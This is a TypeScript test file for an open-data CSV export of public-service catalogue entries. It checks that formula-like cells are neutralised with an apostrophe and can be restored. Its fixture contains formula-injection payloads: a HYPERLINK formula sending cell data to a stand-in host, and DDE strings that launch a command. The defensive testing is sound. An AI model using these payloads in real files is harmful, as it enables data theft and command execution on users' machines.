import { describe, expect, it } from 'vitest';
import type { CatalogEntry } from '@catalog/content-models';
import { restoreCell } from '@catalog/content-models/spreadsheet/index.ts';
import { catalogCsv } from '../../site/src/lib/open-data.ts';

/** The open-data CSV is opened in spreadsheet programs: a text cell must never run as a formula. */
const site = new URL('https://fuwu.example.gov.cn/');

function entry(fields: Partial<CatalogEntry>): CatalogEntry {
  return {
    implementationCode: '11339100000000001X3002005001000',
    basicCode: '002005001000',
    name: '社会保障卡申领',
    aliases: [],
    itemType: '20',
    category: 'social-security',
    serviceObjects: [],
    themes: [],
    level: '3',
    unitName: '瓯江市人力资源和社会保障局',
    regionCode: '339100',
    regionName: '瓯江市',
    status: 'active',
    promisedDays: 5,
    visits: 0,
    charged: false,
    updatedAt: '2026-11-30T02:00:00.000Z',
    ...fields,
  } as CatalogEntry;
}

/** Splits the RFC 4180 rows this export writes (quoted cells may hold commas and line breaks). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [[]];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') { cell += '"'; i++; }
      else if (c === '"') quoted = false;
      else cell += c;
    }
    else if (c === '"') quoted = true;
    else if (c === ',') { rows.at(-1)!.push(cell); cell = ''; }
    else if (c === '\r' && text[i + 1] === '\n') { rows.at(-1)!.push(cell); cell = ''; rows.push([]); i++; }
    else cell += c;
  }
  return rows.filter((r) => r.length > 0);
}

describe('open-data CSV', () => {
  const malicious = entry({
    name: '=HYPERLINK("http://evil.example/?"&A1,"点击办理")',
    aliases: ['@SUM(1+1)*cmd|\' /C calc\'!A0'],
    unitName: '+cmd|\' /C calc\'!A0',
    regionName: '-2+3',
    implementationCode: '\t=1+1',
    basicCode: '\r=1+1',
  });
  const rows = parseCsv(catalogCsv([malicious], site).toString('utf8').slice(1));
  const cells = Object.fromEntries(rows[0]!.map((label, i) => [label, rows[1]![i]!]));

  it('prefixes every text cell that starts like a formula with an apostrophe, as the xlsx exports do', () => {
    expect(cells['事项名称']).toBe('\'=HYPERLINK("http://evil.example/?"&A1,"点击办理")');
    expect(cells['别名（以“；”分隔）']).toBe('\'@SUM(1+1)*cmd|\' /C calc\'!A0');
    expect(cells['实施主体']).toBe('\'+cmd|\' /C calc\'!A0');
    expect(cells['行政区划']).toBe('\'-2+3');
    expect(cells['实施编码']).toBe('\'\t=1+1');
    expect(cells['基本编码']).toBe('\'\r=1+1');
    for (const value of Object.values(cells)) expect(value).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('keeps the exact text recoverable: the import’s restoreCell gives back the original', () => {
    expect(restoreCell(cells['事项名称']!)).toBe(malicious.name);
    expect(restoreCell(cells['实施主体']!)).toBe(malicious.unitName);
  });

  it('leaves ordinary text unchanged', () => {
    const plain = parseCsv(catalogCsv([entry({})], site).toString('utf8').slice(1));
    expect(plain[1]![2]).toBe('社会保障卡申领');
  });
});
